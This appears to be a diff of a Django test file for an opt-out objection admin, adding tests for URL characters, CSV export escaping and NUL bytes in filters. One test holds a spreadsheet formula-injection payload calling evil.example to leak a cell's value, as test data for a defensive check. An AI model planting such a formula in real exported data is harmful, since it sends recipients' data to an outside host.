@@ -37,8 +37,14 @@ def viewer(client):
 def test_it_records_an_objection_received_by_letter_with_the_staff_member_and_an_audit_line(client, staff, purpose):
     response = client.post(
         reverse("admin:optout_objectionevent_record"),
-        {"subject_id": "letter-writer", "purpose": "ai-training", "received_on": "2025-05-02", "channel": "letter",
-         "email": "", "note": "Letter dated 30 April"},
+        {
+            "subject_id": "letter-writer",
+            "purpose": "ai-training",
+            "received_on": "2025-05-02",
+            "channel": "letter",
+            "email": "",
+            "note": "Letter dated 30 April",
+        },
         follow=True,
     )
 
@@ -49,6 +55,19 @@ def test_it_records_an_objection_received_by_letter_with_the_staff_member_and_an
     entry = AuditEntry.objects.get()
     assert (entry.username, entry.action, entry.target) == ("sam", "staff-entry", "letter-writer")
     assert entry.details == {"receipt": event.receipt, "channel": "letter", "new": True}
+
+
+def test_after_recording_it_lists_that_subject_even_with_url_characters_in_its_id(client, staff, purpose):
+    response = client.post(
+        reverse("admin:optout_objectionevent_record"),
+        {"subject_id": "a&b#c 100%", "purpose": "ai-training", "received_on": "2025-05-02", "channel": "letter",
+         "email": "", "note": ""},
+        follow=True,
+    )  # fmt: skip
+
+    assert response.redirect_chain[-1][0].endswith("?subject_id=a%26b%23c+100%25")
+    listed = response.context["cl"].result_list
+    assert [event.subject_id for event in listed] == ["a&b#c 100%"]
 
 
 def test_a_day_in_the_future_is_refused_and_records_nothing(client, staff, purpose):
@@ -129,6 +148,18 @@ def test_it_exports_the_filtered_events_as_csv_and_logs_the_export(client, staff
     assert AuditEntry.objects.get().action == "export"
 
 
+def test_the_export_keeps_a_subject_id_that_looks_like_a_formula_as_text(client, staff, purpose):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    objection_record(subject_id=formula, source="api")
+    objection_record(subject_id="-1", source="api")
+    objection_record(subject_id="plain", source="api")
+
+    response = client.get(reverse("admin:optout_objectionevent_export"))
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert sorted(row[1] for row in rows[1:]) == ["'-1", "'" + formula, "plain"]
+
+
 def test_the_audit_log_is_readable_and_not_editable(client, staff):
     AuditEntry.objects.create(username="someone", action="launch", target="Campaign 1")
     entry = AuditEntry.objects.get()
@@ -161,3 +192,21 @@ def test_admin_login_is_refused_after_too_many_attempts(client):
     # Even the right password is refused while the limit holds.
     assert client.post(url, {"username": "target", "password": "right-password"}).status_code == 429
     cache.clear()
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/admin/campaigns/recipient/?language=%00",
+        "/admin/optout/objectionevent/?subject_id=%00",
+        "/admin/optout/objectionstate/?q=a%00b",
+    ],
+)
+def test_a_nul_in_an_admin_filter_or_search_is_the_invalid_filter_page_not_a_500(admin_client, purpose, url):
+    objection_record(subject_id="someone", source="api")
+
+    response = admin_client.get(url)
+
+    path = url.split("?")[0]
+    assert response.status_code == 302 and response["Location"] == f"{path}?e=1"
+    assert admin_client.get(response["Location"]).status_code == 200
